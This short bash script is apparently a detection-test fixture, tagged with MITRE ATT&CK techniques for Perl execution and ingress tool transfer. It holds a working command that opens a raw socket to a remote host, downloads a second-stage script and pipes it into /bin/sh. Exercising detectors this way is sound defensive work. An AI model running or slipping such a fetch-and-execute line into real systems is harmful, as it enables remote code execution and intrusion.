#!/usr/bin/env bash
# tactic: execution
# technique: T1059.006 Command and Scripting Interpreter (Perl); T1105 Ingress Tool Transfer
# behaviour: Perl fetches a second stage over a raw HTTP socket (no curl, no LWP) and hands it to a shell through a pipe
# as: user
# needs: remote
# expect: decode_and_run
set -u
perl -MIO::Socket::INET -e '
  my $s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => 80) or die;
  print $s "GET /s.sh HTTP/1.0\r\nHost: x\r\n\r\n";
  my $r = join("", <$s>); $r =~ s/^.*?\r\n\r\n//s;
  open(my $sh, "|-", "/bin/sh") or die; print $sh $r; close($sh);' "$SNTL_REMOTE" > /dev/null
